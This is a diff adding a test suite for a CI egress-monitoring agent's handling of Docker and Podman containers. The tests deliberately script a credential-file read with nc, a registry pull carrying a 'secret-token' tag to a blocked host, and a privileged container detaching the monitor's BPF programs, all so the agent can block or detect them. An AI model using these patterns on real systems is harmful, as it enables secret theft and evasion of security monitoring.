@@ -1,0 +1,458 @@
+// Containers started by the job, with a real runtime (Debian's docker.io): one dockerd for the
+// file (test/support/kernel/docker.ts: in its own network namespace, its data in a temp dir,
+// its containers under a cgroup of the test). The docker CLI is the agent's workload, as in a
+// CI step; the containers descend from containerd-shim, never from it.
+//
+// Observe: a container's exec, connect, DNS and file records carry `container` (runtime, id,
+// image, requester) and the step of the `docker` CLI that asked for it.
+// Enforce: the job's policy judges the containers (direct IP, names, Docker's embedded DNS on a
+// user-defined network, `docker build` RUN lines, --network host) and the daemon's own egress
+// (image pulls, the embedded resolver's forwards).
+import { randomBytes } from "node:crypto";
+import { mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { beforeAll, expect, it } from "vitest";
+import { agentCli, agentRun, agentStart, alive, expectRunOk } from "../support/kernel/agent.js";
+import { compileC } from "../support/kernel/cbuild.js";
+import { cgroup2Mount, testCgroup } from "../support/kernel/cgroup.js";
+import {
+  DOCKER_CLI,
+  type Dockerd,
+  dockerAgentConfig,
+  IMAGE,
+  startDockerd,
+} from "../support/kernel/docker.js";
+import { AGENT, FIXTURES, tempDir } from "../support/kernel/env.js";
+import { byKind, type ConnectEv, type Ev } from "../support/kernel/log.js";
+import { PODMAN_IMAGE, setupPodman } from "../support/kernel/podman.js";
+import { run, sleep } from "../support/kernel/proc.js";
+import { startDns, startServers } from "../support/kernel/servers.js";
+import { describeKernel } from "../support/kernel/suite.js";
+import { leaksSettled, ourPins, pins, snapshot } from "../support/kernel/sysstate.js";
+
+const STEP = "containers-step";
+const ALLOWED = "192.0.2.10";
+const BLOCKED = "192.0.2.20";
+const ZONE = {
+  "allowed.test": { A: [ALLOWED] },
+  "blocked.test": { A: [BLOCKED] },
+  "obs.test": { A: [ALLOWED] },
+};
+
+interface Ct {
+  runtime: string;
+  id: string;
+  image?: string | null;
+  requested_by?: number | null;
+}
+const ct = (e: Ev): Ct | undefined => (e as { container?: Ct }).container;
+
+describeKernel("containers with a real runtime (docker)", () => {
+  let d: Dockerd;
+
+  beforeAll(async () => {
+    d = await startDockerd();
+    await startServers(d.hosts, [
+      `tcp:${ALLOWED}:80`,
+      `tcp:${BLOCKED}:80`,
+      `tcp:${ALLOWED}:5000`,
+      `tcp:${BLOCKED}:5000`,
+    ]);
+    await startDns(d.hosts, ["192.0.2.53"], ZONE);
+  }, 120_000);
+
+  /** A shell script of docker commands, run as the workload of the agent (one CI step). */
+  function script(dir: string, body: string): string[] {
+    const p = join(dir, "step.sh");
+    writeFileSync(p, `#!/bin/sh\nD="${d.cli.join(" ")}"\n${body}\n`);
+    return ["/bin/sh", p];
+  }
+
+  function config(dir: string, extra = ""): string {
+    const p = join(dir, "agent.conf");
+    writeFileSync(p, dockerAgentConfig(d) + extra);
+    return p;
+  }
+
+  it("observe: exec, connect, DNS and a credential file read inside a container carry the container (runtime, id, image, requester) and the step of the docker CLI", async () => {
+    const dir = tempDir("ctobs");
+    const cid = join(dir, "cid");
+    const r = await agentRun({
+      args: ["--config", config(dir)],
+      env: { ...process.env, DPNDNCY_STEP: STEP },
+      cmd: script(
+        dir,
+        `$D run --rm --cidfile ${cid} ${IMAGE} sh -c 'cat /root/.aws/credentials; echo x | nc -w2 ${ALLOWED} 80; nslookup obs.test 192.0.2.53; true'`,
+      ),
+    });
+    expectRunOk(r);
+    const id = readFileSync(cid, "utf8").trim();
+    expect(id).toMatch(/^[0-9a-f]{64}$/);
+    const inCt = r.log.events.filter((e) => ct(e)?.id === id);
+    // the CLI that asked: the docker process of the workload
+    const cli = byKind.exec(r.workload).find((e) => e.filename === DOCKER_CLI);
+    expect(cli, "exec of the docker CLI").toBeDefined();
+
+    const sh = byKind.exec(inCt).find((e) => e.argv[0] === "sh");
+    expect(sh, "exec of the container's sh").toBeDefined();
+    expect(ct(sh as Ev)).toEqual({
+      runtime: "docker",
+      id,
+      pod: null,
+      image: IMAGE,
+      requested_by: cli?.pid,
+    });
+    // not the CLI's descendant: containerd-shim's
+    expect(r.workload.some((e) => e.pid === sh?.pid)).toBe(false);
+
+    const conn = byKind.connect(inCt).find((e) => e.addr === ALLOWED && e.port === 80);
+    expect(conn, "connect from the container").toBeDefined();
+    const dns = byKind.dns(inCt).find((e) => e.name === "obs.test");
+    expect(dns, "DNS lookup in the container").toBeDefined();
+    expect(dns?.answers).toContain(ALLOWED);
+    const file = byKind.file(inCt).find((e) => e.path.endsWith("/.aws/credentials"));
+    expect(file, "credential file read in the container").toBeDefined();
+    for (const e of [sh, conn, dns, file] as Ev[]) {
+      expect(e.step, `${e.kind} record's step`).toBe(STEP);
+      expect(ct(e)?.id).toBe(id);
+    }
+  }, 90_000);
+
+  it("enforce: a container's direct IP and blocked name get EPERM, an allowed name resolved through Docker's embedded DNS on a user-defined network connects; --network host is judged too", async () => {
+    const dir = tempDir("ctenf");
+    const out = join(dir, "out");
+    const policy = "allow-host allowed.test:80\ndns-resolver 192.0.2.53\n";
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", config(dir, policy)],
+      env: { ...process.env, DPNDNCY_STEP: STEP },
+      cmd: script(
+        dir,
+        [
+          `exec > ${out} 2>&1`,
+          `$D network create --subnet 203.0.113.0/24 dpkt-net >/dev/null`,
+          `echo "== direct"`,
+          `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
+          `echo "== blocked-name"`,
+          `$D run --rm ${IMAGE} sh -c 'ip=$(nslookup blocked.test 192.0.2.53 | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80 && echo CONNECTED'`,
+          `echo "== embedded"`,
+          `$D run --rm --network dpkt-net --dns 192.0.2.53 ${IMAGE} sh -c 'cat /etc/resolv.conf | grep nameserver; ip=$(nslookup allowed.test | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80'`,
+          `echo "== host"`,
+          `$D run --rm --network host ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
+          `echo "== end"`,
+          `$D network rm dpkt-net >/dev/null`,
+        ].join("\n"),
+      ),
+    });
+    expectRunOk(r);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
+    const text = readFileSync(out, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
+    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
+    expect(part("direct"), text).toMatch(/Operation not permitted/);
+    expect(part("direct")).not.toMatch(/CONNECTED/);
+    expect(part("blocked-name"), text).toMatch(new RegExp(`ip=${BLOCKED}`));
+    expect(part("blocked-name")).toMatch(/Operation not permitted/);
+    expect(part("embedded"), text).toMatch(/nameserver 127\.0\.0\.11/);
+    expect(part("embedded"), text).toMatch(new RegExp(`ip=${ALLOWED}`));
+    expect(part("embedded"), text).toMatch(/^ok$/m);
+    expect(part("host"), text).toMatch(/Operation not permitted/);
+
+    const inCt = r.log.events.filter((e) => ct(e)?.runtime === "docker");
+    const denies = byKind.connect(inCt).filter((e: ConnectEv) => e.verdict === "deny");
+    const allDenies = byKind.connect(r.log.events).filter((e) => e.verdict === "deny");
+    expect(
+      denies.filter((e) => e.addr === BLOCKED && e.port === 80).length,
+      JSON.stringify(allDenies, null, 1),
+    ).toBeGreaterThanOrEqual(3);
+    for (const e of denies) {
+      expect(e.rule).toBe("default-deny");
+      expect(e.step).toBe(STEP);
+    }
+    const allowed = byKind
+      .connect(inCt)
+      .find((e) => e.addr === ALLOWED && e.port === 80 && e.verdict === "allow");
+    expect(allowed?.rule).toBe("allow-host allowed.test:80");
+    // the embedded resolver's forward came from dockerd's own socket, to the sanctioned resolver
+    const fwd = byKind
+      .connect(r.log.events)
+      .find((e) => e.comm === "dockerd" && e.addr === "192.0.2.53" && e.port === 53);
+    expect(fwd?.verdict).toBe("allow");
+    expect(fwd?.rule).toBe("sanctioned-resolver");
+  }, 120_000);
+  it("enforce: a docker build RUN line's egress, an image pull from a registry the policy does not name, and the embedded resolver forwarding to an unsanctioned server are blocked; a named registry is reached", async () => {
+    const dir = tempDir("ctbuild");
+    const out = join(dir, "out");
+    const ctx = join(dir, "ctx");
+    mkdirSync(ctx);
+    writeFileSync(
+      join(ctx, "Dockerfile"),
+      `FROM ${IMAGE}\nRUN echo x | nc -w2 ${BLOCKED} 80 && echo RUN-CONNECTED || echo RUN-BLOCKED\n`,
+    );
+    const policy = `allow-cidr ${ALLOWED}/32:5000\ndns-resolver 192.0.2.53\n`;
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", config(dir, policy)],
+      env: { ...process.env, DPNDNCY_STEP: STEP, DOCKER_BUILDKIT: "0" },
+      cmd: script(
+        dir,
+        [
+          `exec > ${out} 2>&1`,
+          `echo "== build"`,
+          `$D build --no-cache -t dpkt-built:1 ${ctx}`,
+          `echo "== pull-evil"`,
+          `$D pull ${BLOCKED}:5000/x:secret-token-123`,
+          `echo "== pull-named"`,
+          `$D pull ${ALLOWED}:5000/x:ok`,
+          `echo "== resolver"`,
+          `$D network create --subnet 203.0.113.0/24 dpkt-net2 >/dev/null`,
+          `$D run --rm --network dpkt-net2 --dns 192.0.2.99 ${IMAGE} nslookup -timeout=2 allowed.test`,
+          `$D network rm dpkt-net2 >/dev/null`,
+          `$D rmi dpkt-built:1 >/dev/null`,
+          `echo "== end"`,
+        ].join("\n"),
+      ),
+    });
+    expectRunOk(r);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
+    const text = readFileSync(out, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
+    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
+    expect(part("build"), text).toMatch(/Operation not permitted/);
+    expect(part("build"), text).toMatch(/^RUN-BLOCKED$/m);
+    expect(part("build")).not.toMatch(/^RUN-CONNECTED$/m);
+
+    const conns = byKind.connect(r.log.events);
+    // the RUN line ran in a build container, attributed to the step of `docker build`
+    const cli = byKind
+      .exec(r.workload)
+      .find((e) => e.filename === DOCKER_CLI && e.argv[3] === "build");
+    const run = conns.find((e) => e.addr === BLOCKED && e.port === 80);
+    expect(run?.verdict, JSON.stringify(run)).toBe("deny");
+    expect(ct(run as Ev)?.runtime).toBe("docker");
+    expect(ct(run as Ev)?.requested_by).toBe(cli?.pid);
+    expect(run?.step).toBe(STEP);
+    // the daemon's pull: judged by the job's policy (the tag never leaves the host)
+    const evil = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
+    expect(evil.length, text).toBeGreaterThanOrEqual(1);
+    for (const e of evil) {
+      expect(e.comm).toBe("dockerd");
+      expect(e.verdict).toBe("deny");
+      expect(e.rule).toBe("default-deny");
+    }
+    const named = conns.find((e) => e.addr === ALLOWED && e.port === 5000);
+    expect(named?.comm).toBe("dockerd");
+    expect(named?.verdict).toBe("allow");
+    expect(named?.rule).toBe(`allow-cidr ${ALLOWED}/32:5000`);
+    // the embedded resolver may not forward to a resolver the policy does not sanction
+    const fwd = conns.filter((e) => e.addr === "192.0.2.99" && e.port === 53);
+    expect(fwd.length, text).toBeGreaterThanOrEqual(1);
+    for (const e of fwd) {
+      expect(e.comm).toBe("dockerd");
+      expect(e.verdict).toBe("deny");
+      expect(e.rule).toBe("dns-resolver");
+    }
+    expect(part("resolver"), text).not.toMatch(/Address: 192\.0\.2\.10/);
+  }, 120_000);
+  it("enforce: a privileged container (CAP_SYS_ADMIN, no seccomp) that detaches the programs judging it (BPF_LINK_DETACH) cannot do so unseen: a link-detached tamper event names the container cgroup's links", async () => {
+    const dir = tempDir("ctpriv");
+    const out = join(dir, "out");
+    const tool = await compileC(join(FIXTURES, "ct_detach.c"), ["-static"]);
+    const cgid = statSync(d.containersCg).ino;
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", config(dir, "dns-resolver 192.0.2.53\n")],
+      env: { ...process.env, DPNDNCY_STEP: STEP },
+      cmd: script(
+        dir,
+        [
+          `exec > ${out} 2>&1`,
+          `echo "== before"`,
+          `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
+          `echo "== privileged"`,
+          // what --privileged gives that the attack needs: CAP_SYS_ADMIN and no seccomp filter.
+          // Not --privileged itself: this machine's bounding set lacks CAP_SYS_RESOURCE, which
+          // runc then fails to grant
+          `$D run --rm --cap-add SYS_ADMIN --security-opt seccomp=unconfined -v ${tool}:/ct_detach:ro ${IMAGE} sh -c '/ct_detach ${cgid}; echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
+          // the agent's integrity check runs about once a second
+          "sleep 2",
+          `echo "== end"`,
+        ].join("\n"),
+      ),
+    });
+    expectRunOk(r);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
+    const text = readFileSync(out, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
+    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
+    expect(part("before"), text).toMatch(/Operation not permitted/);
+    // what a privileged container can do: it holds CAP_SYS_ADMIN over the host's BPF objects
+    expect(part("privileged"), text).toMatch(/detached 6/);
+    // and then its egress is no longer judged: this is detection, not prevention (no BPF LSM
+    // on these kernels to refuse bpf() to a container; docs/containers.md)
+    expect(part("privileged"), text).toMatch(/^ok$/m);
+    const tampers = r.log.events.filter((e) => e.kind === "tamper") as (Ev & {
+      what: string;
+      detail?: string;
+    })[];
+    const detached = tampers.filter((e) => e.what === "link-detached");
+    expect(
+      detached.map((e) => /link '([^']+)'/.exec(e.detail ?? "")?.[1]).sort(),
+      JSON.stringify(tampers),
+    ).toEqual([
+      "ct0_enf_connect4",
+      "ct0_enf_connect6",
+      "ct0_enf_dns",
+      "ct0_enf_sendmsg4",
+      "ct0_enf_sendmsg6",
+      "ct0_enf_sock_create",
+    ]);
+  }, 120_000);
+  it("podman (rootful, no daemon): its container inherits the step through podman -> conmon -> runtime, carries runtime podman and id, and a blocked connect gets EPERM", async () => {
+    const dir = tempDir("ctpod");
+    const out = join(dir, "out");
+    const p = await setupPodman(d.lab);
+    const conf = join(dir, "agent.conf");
+    writeFileSync(
+      conf,
+      `container-cgroup ${p.containersCg}\ndns-resolver 192.0.2.53\nallow-cidr ${ALLOWED}/32:80\n`,
+    );
+    const podRun = [...p.cli, "run", ...p.runFlags, PODMAN_IMAGE].join(" ");
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", conf],
+      env: { ...process.env, DPNDNCY_STEP: STEP },
+      cmd: [
+        "/bin/sh",
+        "-c",
+        `exec > ${out} 2>&1; ${podRun} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED; echo x | nc -w2 ${ALLOWED} 80'`,
+      ],
+    });
+    expectRunOk(r);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
+    const text = readFileSync(out, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
+    expect(text).toMatch(/Operation not permitted/);
+    expect(text).toMatch(/^ok$/m);
+    expect(text).not.toMatch(/^CONNECTED$/m);
+    const inCt = r.log.events.filter((e) => ct(e)?.runtime === "podman");
+    const sh = byKind.exec(inCt).find((e) => e.argv[0] === "sh");
+    expect(sh, "exec of the container's sh").toBeDefined();
+    expect(ct(sh as Ev)?.id).toMatch(/^[0-9a-f]{64}$/);
+    expect(sh?.step).toBe(STEP);
+    const deny = byKind.connect(inCt).find((e) => e.addr === BLOCKED && e.port === 80);
+    expect(deny?.verdict).toBe("deny");
+    expect(deny?.step).toBe(STEP);
+    const allow = byKind.connect(inCt).find((e) => e.addr === ALLOWED && e.port === 80);
+    expect(allow?.verdict).toBe("allow");
+  }, 120_000);
+  it("container-slice (systemd driver layout): docker-<id>.scope and libpod-<id>.scope cgroups in the slice are judged, made before or after the agent started; another service of the slice is not", async () => {
+    // The systemd cgroup driver needs systemd, which this machine does not run: the slice and
+    // its scopes are made by the test, as systemd would make them for dockerd and podman.
+    const dir = tempDir("ctslice");
+    const out = join(dir, "out");
+    const slice = testCgroup("slice");
+    const other = slice.child("other.service");
+    const early = `libpod-${randomBytes(32).toString("hex")}.scope`;
+    slice.child(early);
+    const lateId = randomBytes(32).toString("hex");
+    const late = join(slice.path, `docker-${lateId}.scope`);
+    const conf = join(dir, "agent.conf");
+    writeFileSync(conf, `container-slice ${slice.path}\ndns-resolver 192.0.2.53\n`);
+    const nc = (cg: string, tag: string) =>
+      `sh -c 'echo $$ > ${cg}/cgroup.procs && exec nsenter --net=/run/netns/${d.lab.name} sh -c "echo x | busybox nc -w2 ${BLOCKED} 80 && echo ${tag}-CONNECTED || echo ${tag}-BLOCKED"'`;
+    const r = await agentRun({
+      args: ["--mode", "enforce", "--config", conf],
+      env: { ...process.env, DPNDNCY_STEP: STEP },
+      cmd: [
+        "/bin/sh",
+        "-c",
+        [
+          `exec > ${out} 2>&1`,
+          `mkdir ${late}`,
+          nc(late, "late"),
+          nc(join(slice.path, early), "early"),
+          nc(other, "other"),
+          `rmdir ${late}`,
+        ].join("\n"),
+      ],
+    });
+    expectRunOk(r);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
+    const text = readFileSync(out, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
+    expect(text).toMatch(/^late-BLOCKED$/m);
+    expect(text).toMatch(/^early-BLOCKED$/m);
+    expect(text).toMatch(/^other-CONNECTED$/m);
+    const conns = byKind.connect(r.log.events).filter((e) => e.addr === BLOCKED && e.port === 80);
+    const lateRec = conns.find((e) => ct(e)?.id === lateId);
+    expect(lateRec?.verdict, JSON.stringify(conns)).toBe("deny");
+    expect(lateRec?.rule).toBe("default-deny");
+    expect(lateRec?.step).toBe(STEP);
+    const otherRec = conns.find((e) => e.verdict === "allow");
+    expect(otherRec?.rule).toBe("exempt-cgroup");
+    expect(ct(otherRec as Ev)).toBeUndefined();
+  }, 90_000);
+  it("bad container directives are refused with FILE:LINE, and a container-cgroup that does not exist or is the cgroup v2 root stops enforce, leaving nothing attached", async () => {
+    const dir = tempDir("ctbad");
+    const cases: [string, RegExp][] = [
+      ["container-cgroup /\n", /agent\.conf:1: container-cgroup: "\/" is not a cgroup path/],
+      ["container-slice ../x\n", /agent\.conf:1: container-slice: "\.\.\/x" is not a cgroup path/],
+      ["runtime-socket docker.sock\n", /agent\.conf:1: runtime-socket needs an absolute path/],
+      ["container-cgroup a b\n", /agent\.conf:1: wrong number of arguments for 'container-cgroup'/],
+      [
+        `container-cgroup ${join(d.cgroup.path, "no-such")}\n`,
+        /enforce: container-cgroup .*no-such: No such file or directory/,
+      ],
+      [`container-cgroup ${cgroup2Mount()}/.\n`, /refusing to judge the cgroup v2 root/],
+    ];
+    const before = await snapshot();
+    for (const [text, want] of cases) {
+      const conf = join(dir, "agent.conf");
+      writeFileSync(conf, text);
+      const res = await run(
+        [
+          AGENT,
+          "run",
+          "--mode",
+          "enforce",
+          "--config",
+          conf,
+          "--log",
+          join(dir, "l.ndjson"),
+          "--",
+          "true",
+        ],
+        { timeoutMs: 30_000 },
+      );
+      expect(res.code, text).not.toBe(0);
+      expect(res.stderr, text).toMatch(want);
+    }
+    expect(await leaksSettled(before), "left attached by a refused start").toEqual([]);
+  }, 60_000);
+  it("start --mode enforce with a container-cgroup: a container cgroup made after the agent's SIGKILL is still judged (pinned, fail closed); stop removes every pin", async () => {
+    const dir = tempDir("ctpin");
+    const parent = testCgroup("ctpin");
+    const conf = join(dir, "agent.conf");
+    writeFileSync(conf, `container-cgroup ${parent.path}\ndns-resolver 192.0.2.53\n`);
+    const st = await agentStart(["--mode", "enforce", "--config", conf]);
+    expect(st.res.code, st.res.stderr).toBe(0);
+    expect(
+      pins().some((p) => p.endsWith("/ct0_enf_connect4")),
+      pins().join(" "),
+    ).toBe(true);
+    const inContainer = async (): Promise<string> => {
+      const cg = parent.child(`c${randomBytes(4).toString("hex")}`);
+      const r = await run(
+        [
+          "/bin/sh",
+          "-c",
+          `echo $$ > ${cg}/cgroup.procs && exec nsenter --net=/run/netns/${d.lab.name} sh -c "echo x | busybox nc -w2 ${BLOCKED} 80"`,
+        ],
+        { timeoutMs: 30_000 },
+      );
+      return r.stdout + r.stderr;
+    };
+    expect(await inContainer()).toMatch(/Operation not permitted/);
+    process.kill(st.pid as number, "SIGKILL");
+    for (let i = 0; i < 100 && alive(st.pid as number); i++) await sleep(50);
+    expect(alive(st.pid as number)).toBe(false);
+    // a new container cgroup below the parent inherits the pinned programs at mkdir
+    expect(await inContainer()).toMatch(/Operation not permitted/);
+    const stop = await agentCli(["stop", "--state-dir", st.stateDir]);
+    expect(stop.code, stop.stderr).toBe(3); // recovered: the trace is incomplete
+    expect(ourPins()).toEqual([]);
+    expect(await inContainer()).toMatch(/^ok$/m);
+  }, 90_000);
+});
